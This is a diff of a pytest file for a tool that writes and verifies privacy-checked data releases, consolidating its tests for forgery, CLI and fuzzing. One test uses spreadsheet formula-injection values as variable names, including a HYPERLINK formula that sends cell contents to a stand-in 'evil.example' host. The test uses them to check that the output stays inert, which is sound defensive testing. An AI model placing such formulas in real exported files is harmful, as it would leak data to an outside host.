@@ -5,29 +5,24 @@ import hashlib
 import io
 import json
 import shutil
-from dataclasses import dataclass, replace
+from dataclasses import dataclass
 from pathlib import Path
 from typing import TYPE_CHECKING
 
 import numpy as np
-import pandas as pd
 import pytest
-import typer
 from cases.release_cases import clustered
-from federation.mutations import (
-    content_of,
-    mutate_folder,
-)
+from federation.mutations import content_of, mutate_folder
 from typer.testing import CliRunner
 
-from silomix.cli.silo_side import inspect_command, release_command
+from silomix import cli
 from silomix.errors import FileError, MessageError
 from silomix.messages import SampleLocally
 from silomix.messages.container import HEAD
 from silomix.messages.csv_tables import LARGEST_FILE, MOST_LINES, read_release_arrays
 from silomix.messages.door import check_reply
 from silomix.messages.folder import read, read_release, release_files, write_release
-from silomix.model.schema import Schema, Shard, Variable
+from silomix.model.schema import Schema, Variable
 from silomix.model.table import infer_schema
 from silomix.posterior.diagnosis import fingerprint
 from silomix.silo.release import make_release
@@ -133,29 +128,15 @@ class TestRoundTrip:
         again = release_files(summary.release, summary.study.table_schema)
         assert again == summary.files
 
-    def check_round_trip(self, folder, schema, seed):
-        """Write a release with these names, and read the same back."""
-        sizes = tuple(schema.sizes.tolist())
-        local = clustered(np.random.default_rng(seed), [40, 30], sizes, draws=20)
-        shard = Shard(schema, local.draws.shard.codes)
-        local = replace(local, draws=replace(local.draws, shard=shard))
-        study = make_study(schema, ROSTER, tier="draws")
-        release = make_release(local, silo="north", place=0, study=digest(study), tier="draws")
-        write_release(release, folder, schema)
-        assert fingerprint(read(folder, study=study)[1]) == fingerprint(release)
-
-    def test_wide_tables_go_on_in_another_file(self, tmp_path, seed):
-        wide = make_case(seed, OPEN, "summary", (20, 20), (2,) * 1300, draws=10)
-        assert "profile_2.csv" in wide.files
-        put(tmp_path / "w", wide.files)
-        assert fingerprint(arrive(tmp_path / "w", wide.study)) == fingerprint(wide.release)
-        check_airlock(wide.files)
-
     def test_names_that_are_formulas_are_text_to_a_spreadsheet(self, tmp_path, seed):
         levels = ("+ve", "-1", "a;=1+1"), ("'=1+1", "+", "(-2, -1]", 'a "quoted", $name$, 数')
         link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
         schema = Schema((Variable(link, levels[0]), Variable("@SUM(1)", levels[1])))
-        self.check_round_trip(tmp_path / "r", schema, seed)
+        local = clustered(np.random.default_rng(seed), [40, 30], (3, 4), draws=20)
+        study = make_study(schema, ROSTER, tier="draws")
+        release = make_release(local, silo="north", place=0, study=digest(study), tier="draws")
+        write_release(release, tmp_path / "r", schema)
+        assert fingerprint(read(tmp_path / "r", study=study)[1]) == fingerprint(release)
         assert read_release(tmp_path / "r")[1] == schema
         cells = {
             cell
@@ -180,64 +161,30 @@ def check_airlock(files):
 
 class TestWriting:
     def test_an_airlock_takes_it_and_details_of_checks_stay_inside(self, summary, drawn):
-        check_airlock(summary.files)
-        check_airlock(drawn.files)
         assert "203" not in summary.files["checks.csv"].decode()
-        for case, words in (
-            (summary, ["to the nearest 5", "not differential privacy", "small clusters folded"]),
-            (drawn, ["usually to within one", "the policy has no rule"]),
+        for case, warning in (
+            (summary, "not differential privacy"),
+            (drawn, "usually to within one"),
         ):
+            check_airlock(case.files)
             page = " ".join(case.files["README.txt"].decode().split())
-            assert all(word in page for word in words)
+            assert warning in page
             assert "203 to" not in page
             assert "clusters of 7 rows" not in page
 
-    def test_what_is_in_the_way(self, tmp_path, summary):
+    def test_only_a_release_is_replaced_and_only_by_force(self, tmp_path, summary):
         schema = summary.study.table_schema
-        (tmp_path / "empty").mkdir()
-        write_release(summary.release, tmp_path / "empty", schema)
-        with pytest.raises(FileError, match="exists already; give another folder, or --force"):
-            write_release(summary.release, tmp_path / "empty", schema)
-        (tmp_path / "empty" / "README.txt").write_text("old")
-        write_release(summary.release, tmp_path / "empty", schema, force=True)
-        arrive(tmp_path / "empty", summary.study)
+        write_release(summary.release, tmp_path, schema)
+        with pytest.raises(FileError, match="--force"):
+            write_release(summary.release, tmp_path, schema)
+        (tmp_path / "README.txt").write_text("old")
+        write_release(summary.release, tmp_path, schema, force=True)
+        arrive(tmp_path, summary.study)
         (tmp_path / "mine").mkdir()
         (tmp_path / "mine" / "thesis.txt").write_text("years of work")
         with pytest.raises(FileError, match=r"exists already; give another folder$"):
             write_release(summary.release, tmp_path / "mine", schema, force=True)
         assert (tmp_path / "mine" / "thesis.txt").exists()
-        assert {path.name for path in tmp_path.iterdir()} == {"empty", "mine"}
-
-
-class TestScan:
-    """No released count is under the policy's minimum, read as anyone would read the files."""
-
-    @pytest.mark.parametrize("word", ["default", "opensafely", "ukllc", "omop", "pcornet"])
-    @pytest.mark.parametrize("members", [(203, 61, 15, 7), (33, 32), (11,), (3000, 40, 9, 3, 2)])
-    def test_no_small_count(self, seed, word, members):
-        policy = PRESETS[word]
-        files = make_case(seed, policy, members=members).files
-        sizes = pd.read_csv(io.BytesIO(files["cluster_sizes.csv"]))
-        profile = pd.read_csv(io.BytesIO(files["profile.csv"]))
-        least, base = policy.minimum_count, policy.round_to
-        assert (sizes["rows"] >= least).all()
-        assert (sizes["rows"] % base == 0).all()
-        assert sizes["rows"].sum() == json.loads(files[HEAD])["fields"]["rows"]
-        told = profile[profile["basis"] != "uniform"]
-        assert (told["count"] >= least).all()
-        assert (told["count"] % base == 0).all()
-        np.testing.assert_allclose(told["mean"] * told["of"], told["count"])
-        assert (told["count"] <= told["of"]).all()
-        own = told[told["basis"] == "cluster"]
-        size = sizes["rows"].to_numpy()[own["cluster"]]
-        assert (own["mean"] * size >= least - 1e-6).all()
-        unsaid = profile[profile["basis"] == "uniform"]
-        assert unsaid["count"].isna().all()
-        assert (unsaid.groupby(["cluster", "variable"])["mean"].nunique() == 1).all()
-
-
-def cells(files, name):
-    return list(csv.reader(io.StringIO(files[name].decode())))
 
 
 class TestRefusals:
@@ -249,27 +196,23 @@ class TestRefusals:
         with pytest.raises(MessageError, match=match):
             read_release(folder)
 
-    def test_what_is_forged_well_is_read(self, tmp_path, summary, drawn):
+    def test_what_is_forged_well_is_read_unless_of_another_study_silo_or_schema(
+        self, tmp_path, summary, drawn
+    ):
         for name, case in (("s", summary), ("d", drawn)):
             release = arrive(put(tmp_path / name, forge(case.files)), case.study)
             assert fingerprint(release) == fingerprint(case.release)
-
-    def test_of_another_study_silo_or_schema(self, tmp_path, summary):
         other = make_study(summary.study.table_schema, ROSTER, tier="summary", seed=5)
         with pytest.raises(MessageError, match="is of study"):
             arrive(put(tmp_path / "r", summary.files), other)
-        for fields in ({"silo": "west"}, {"place": 2}, {"tier": "draws"}):
+        sexes = {"profile.csv": summary.files["profile.csv"].replace(b",v0,", b",sex,")}
+        forged = [forge(summary.files, **{k: v}) for k, v in (("silo", "west"), ("place", 2))]
+        for files in (*forged, forge(summary.files, tier="draws"), forge(summary.files, sexes)):
             with pytest.raises(MessageError):
-                arrive(put(tmp_path / "r", forge(summary.files, **fields)), summary.study)
-        content = summary.files["profile.csv"].replace(b",v0,", b",sex,")
-        with pytest.raises(MessageError, match="other variables or levels"):
-            arrive(
-                put(tmp_path / "r", forge(summary.files, {"profile.csv": content})), summary.study
-            )
+                arrive(put(tmp_path / "r", files), summary.study)
 
-    @pytest.mark.parametrize(
-        "fields",
-        [
+    def test_a_wrong_head(self, tmp_path, summary):
+        for fields in (
             {"rows": -1},
             {"rows": 5},
             {"policy": {}},
@@ -278,18 +221,14 @@ class TestRefusals:
             {"more": 1},
             {"diagnostics": {}},
             {"checks": [{"rule": "none"}]},
-        ],
-        ids=str,
-    )
-    def test_a_wrong_head(self, tmp_path, summary, fields):
-        self.refused(tmp_path, summary, forge(summary.files, **fields))
+        ):
+            self.refused(tmp_path, summary, forge(summary.files, **fields))
 
     @pytest.mark.parametrize(
         ("name", "old", "new"),
         [
             ("cluster_sizes.csv", b"\n0,", b"\n1,"),
             ("cluster_sizes.csv", b"\n0,", b"\n0,1"),
-            ("cluster_sizes.csv", b"cluster", b"group"),
             ("profile.csv", b",v0,", b",v1,"),
             ("profile.csv", b",cluster,", b",silo,"),
             ("profile.csv", b"v0,level 1", b"v0,level 0"),
@@ -299,8 +238,6 @@ class TestRefusals:
             ("profile.csv", b",v0,", b',"v\nw",'),
             ("checks.csv", b",10,", b",ten,"),
             ("checks.csv", b",10,", b",11,"),
-            ("checks.csv", b",applied\n", b",applied,\n"),
-            ("checks.csv", b",applied\n", b",applied\r\n"),
         ],
     )
     def test_a_vouched_for_file(self, tmp_path, summary, name, old, new):
@@ -314,21 +251,18 @@ class TestRefusals:
             ("mean", ["nan", "1e999", "1_0", "-0.1", ""]),
             ("concentration", ["nan", "-3.0", "1e300", ""]),
             ("count", ["nan", "-0.1", "x"]),
-            (None, [None]),
         ],
     )
     def test_a_number_that_cannot_be(self, tmp_path, summary, column, values):
-        """In the first line; a concentration is in all lines of its variable."""
+        """In the first line; a concentration in all, since those of a variable are one."""
+        content = summary.files["profile.csv"].decode()
+        head, *rows = csv.reader(io.StringIO(content))
+        old, times = f",{rows[0][head.index(column)]},", -1 if column == "concentration" else 1
         for value in values:
-            head, *rows = csv.reader(io.StringIO(summary.files["profile.csv"].decode()))
-            if column is None:
-                rows.pop()
-            for row in [row for row in rows if column and row[:2] == rows[0][:2]]:
-                if column == "concentration" or row is rows[0]:
-                    row[head.index(column)] = value
-            self.refused(
-                tmp_path, summary, forge(summary.files, {"profile.csv": as_csv([head, *rows])})
-            )
+            changed = content.replace(old, f",{value},", times).encode()
+            self.refused(tmp_path, summary, forge(summary.files, {"profile.csv": changed}))
+        short = content[: content.rindex("\n", 0, -1) + 1].encode()
+        self.refused(tmp_path, summary, forge(summary.files, {"profile.csv": short}))
 
     def test_what_its_own_policy_forbids(self, tmp_path, seed, drawn):
         strict = echo(OPEN.model_copy(update={"tiers": ("summary",)}))
@@ -344,118 +278,92 @@ class TestRefusals:
 
     def test_draws_that_cannot_be(self, tmp_path, drawn):
         for name in ("weights.csv", "probabilities.csv"):
-            rows = cells(drawn.files, name)
-            rows[5][2] = "0.125"
-            self.refused(tmp_path, drawn, forge(drawn.files, {name: as_csv(rows)}), "sum to one")
+            head, first, *rest = drawn.files[name].splitlines(keepends=True)
+            cells = first.split(b",")
+            cells[2] = b"0.125"
+            changed = b"".join([head, b",".join(cells), *rest])
+            self.refused(tmp_path, drawn, forge(drawn.files, {name: changed}), "sum to one")
             moved = drawn.files[name].replace(b"\n7,", b"\n8,", 1)
-            self.refused(tmp_path, drawn, forge(drawn.files, {name: moved}))
-        short = as_csv(cells(drawn.files, "weights.csv")[:-1])
-        self.refused(tmp_path, drawn, forge(drawn.files, {"weights.csv": short}))
+            for lines in (moved, b"".join([head, first, *rest[:-1]])):
+                self.refused(tmp_path, drawn, forge(drawn.files, {name: lines}))
         (tmp_path / "r" / "weights.csv").unlink()
         files = {k: v for k, v in drawn.files.items() if k != "weights.csv"}
         self.refused(tmp_path, drawn, forge(files, {"weights_3.csv": drawn.files["weights.csv"]}))
 
 
-def as_csv(rows):
-    text = io.StringIO()
-    csv.writer(text, lineterminator="\n").writerows(rows)
-    return text.getvalue().encode()
-
-
-@pytest.fixture(scope="module")
-def commands():
-    app = typer.Typer()
-    app.command("release")(release_command)
-    app.command("inspect")(inspect_command)
-    return lambda *words: CliRunner().invoke(app, [str(word) for word in words])
-
-
-@pytest.fixture(scope="module")
-def place(tmp_path_factory):
-    """A table of two hospitals, and the study files of two tiers."""
-    folder = tmp_path_factory.mktemp("silo")
-    table, _ = simulate("nested", rows=400, silos=2, seed=3)
-    table.to_csv(folder / "table.csv", index=False)
-    schema = infer_schema(table, silo="silo")
-    names = read_roster(table, "silo").names
-    for tier in ("summary", "draws"):
-        study = make_study(schema, names, tier=tier, iterations=400, chains=1, components=8)
-        write_study(study, folder / f"{tier}.toml")
-    return folder
-
-
 class TestCommands:
-    def options(self, place, tier="summary", policy="default"):
-        silo = read_study(place / f"{tier}.toml").silos[0]
-        return (
-            *("release", place / "table.csv", "--study", place / f"{tier}.toml"),
-            *("--silo", silo, "--silo-column", "silo", "--policy", policy),
-        )
+    @pytest.fixture
+    def release(self, tmp_path, monkeypatch):
+        """`silomix release` of the first of two hospitals, in a folder with what it needs."""
+        monkeypatch.chdir(tmp_path)
+        table, _ = simulate("nested", rows=400, silos=2, seed=3)
+        table.to_csv("table.csv", index=False)
+        schema, names = infer_schema(table, silo="silo"), read_roster(table, "silo").names
+        for tier in ("summary", "draws"):
+            study = make_study(schema, names, tier=tier, iterations=400, chains=1, components=8)
+            write_study(study, f"{tier}.toml")
+        write_policy(Policy(name="ours", minimum_count=20), "ours.toml")
+        write_policy(Policy(limits=Limits(sweeps=100)), "short.toml")
 
-    def test_release_and_inspect(self, tmp_path, place, commands):
-        out = tmp_path / "out"
-        write_policy(Policy(name="ours", minimum_count=20), tmp_path / "p.toml")
-        made = commands(*self.options(place, policy=tmp_path / "p.toml"), "--out", out, "--json")
+        def command(*more, tier="summary", policy="default"):
+            where = "table.csv", "--silo", names[0], "--silo-column", "silo"
+            return run("release", *where, "--study", f"{tier}.toml", "--policy", policy, *more)
+
+        return command
+
+    def test_release_and_inspect(self, release, monkeypatch):
+        made = release("--out", "out", "--json", policy="ours.toml")
         assert made.exit_code == 0, made.output
         told = json.loads(made.stdout)
-        study = read_study(place / "summary.toml")
-        release = arrive(out, study)
-        assert told["sizes"] == release.sizes.tolist()
+        assert told["sizes"] == arrive("out", read_study("summary.toml")).sizes.tolist()
         assert told["policy"]["name"] == "ours"
         assert min(told["sizes"]) >= 20
         assert all(check["inside"] == "" for check in told["checks"])
-        assert sorted(told["files"]) == sorted(map(str, out.iterdir()))
+        assert sorted(told["files"]) == sorted(map(str, Path("out").iterdir()))
 
-        shown = commands("inspect", out)
+        shown = run("inspect", "out")
         assert shown.exit_code == 0, shown.output
-        words = " ".join(shown.stdout.split())
-        assert "What a recipient could infer" in words
-        assert "to the nearest 5" in words
-        assert "Every file fits its checksum" in words
-        record = json.loads(commands("inspect", out, "--json").stdout)
+        assert "to the nearest 5" in words(shown)
+        record = json.loads(run("inspect", "out", "--json").stdout)
         assert record["sizes"] == told["sizes"]
         assert record["explanation"] == told["explanation"]
 
-        with pytest.MonkeyPatch.context() as patch:
+        with monkeypatch.context() as patch:
             patch.setattr("silomix.cli.silo_side.sample_rows", None)  # refused before it samples
-            again = commands(*self.options(place), "--out", out)
-        assert again.exit_code == 5
-        assert "exists already" in again.stderr
-        once_more = self.options(place, policy=tmp_path / "p.toml")
-        assert commands(*once_more, "--out", out, "--force").exit_code == 0
-        rounded = commands(*self.options(place), "--out", out, "--force")
-        assert rounded.exit_code == 6
-        assert "with another rounding, 20, 5" in " ".join(rounded.stderr.split())
+            again = release("--out", "out")
+        assert (again.exit_code, "exists already" in words(again)) == (5, True)
+        assert release("--out", "out", "--force", policy="ours.toml").exit_code == 0
+        rounded = release("--out", "out", "--force")
+        assert (rounded.exit_code, "another rounding" in words(rounded)) == (6, True)
 
-    def test_dry_run_shows_details_and_writes_nothing(self, place, commands):
-        before = sorted(place.iterdir())
-        shown = commands(*self.options(place), "--dry-run")
+    def test_dry_run_shows_details_and_writes_nothing(self, release):
+        before = sorted(Path().iterdir())
+        shown = release("--dry-run")
         assert shown.exit_code == 0, shown.output
-        assert "no probability moved by more than" in " ".join(shown.stdout.split())
-        assert "Nothing was written." in shown.stdout
-        record = json.loads(commands(*self.options(place), "--dry-run", "--json").stdout)
+        assert "no probability moved by more than" in words(shown)
+        record = json.loads(release("--dry-run", "--json").stdout)
         assert any(" to " in check["inside"] for check in record["checks"])
         assert "files" not in record
-        assert sorted(place.iterdir()) == before
+        assert sorted(Path().iterdir()) == before
 
-    def test_what_cannot_be_done(self, tmp_path, place, commands):
-        neither = commands(*self.options(place))
-        assert neither.exit_code == 2
-        assert "--dry-run to see it first" in " ".join(neither.stderr.split())
-        forbidden = commands(*self.options(place, "draws"), "--out", tmp_path / "r")
-        assert forbidden.exit_code != 0
-        assert "asks for a release of tier 'draws'" in forbidden.stderr
-        unknown = commands(*self.options(place, policy="strict"), "--dry-run")
-        assert unknown.exit_code == 4
-        assert "there is no policy 'strict'" in unknown.stderr
-        assert not (tmp_path / "r").exists()
-        write_policy(Policy(limits=Limits(sweeps=100)), tmp_path / "short.toml")
-        beyond = commands(*self.options(place, policy=tmp_path / "short.toml"), "--dry-run")
-        assert beyond.exit_code == 6
-        assert "sets iterations to 400" in " ".join(beyond.stderr.split())
-        damaged = commands("inspect", tmp_path)
-        assert damaged.exit_code == 5
-        assert "message.json is missing" in " ".join(damaged.stderr.split())
+    def test_what_cannot_be_done(self, release):
+        for result, code, word in (
+            (release(), 2, "--dry-run to see it first"),
+            (release("--out", "r", tier="draws"), 6, "tier 'draws'"),
+            (release("--dry-run", policy="strict"), 4, "no policy 'strict'"),
+            (release("--dry-run", policy="short.toml"), 6, "sets iterations to 400"),
+            (run("inspect", "."), 5, "message.json is missing"),
+        ):
+            assert (result.exit_code, word in words(result)) == (code, True), result.output
+        assert not Path("r").exists()
+
+
+def run(*args):
+    return CliRunner().invoke(cli.app, list(args))
+
+
+def words(result):
+    return " ".join(result.output.split())
 
 
 def check_sane(release, study):
@@ -471,25 +379,15 @@ def check_sane(release, study):
     assert Policy(**release.policy)
 
 
-class TestFuzz:
-    def fuzz(self, folder, case, rng, times):
-        good, wrong, refused = put(folder / "good", case.files), folder / "wrong", 0
-        for _ in range(times):
-            shutil.copytree(good, wrong)
-            mutate_folder(wrong, [good], rng)
-            try:
-                check_sane(arrive(wrong, case.study), case.study)
-            except MessageError:
-                refused += 1
-            shutil.rmtree(wrong)
-        assert refused > 0.7 * times
-
-    def test_mutations_are_refused_or_harmless(self, tmp_path, summary, seed):
-        rng = np.random.default_rng([seed, 4])
-        self.fuzz(tmp_path, summary, rng, 100)
-
-    @pytest.mark.slow
-    @pytest.mark.parametrize("block", range(10), ids="block{}-".format)
-    def test_a_thousand(self, tmp_path, summary, drawn, seed, block):
-        rng = np.random.default_rng([seed, 5, block])
-        self.fuzz(tmp_path, drawn if block % 2 else summary, rng, 1000)
+def test_mutations_are_refused_or_harmless(tmp_path, summary, seed):
+    rng = np.random.default_rng([seed, 4])
+    good, wrong, refused = put(tmp_path / "good", summary.files), tmp_path / "wrong", 0
+    for _ in range(100):
+        shutil.copytree(good, wrong)
+        mutate_folder(wrong, [good], rng)
+        try:
+            check_sane(arrive(wrong, summary.study), summary.study)
+        except MessageError:
+            refused += 1
+        shutil.rmtree(wrong)
+    assert refused > 70
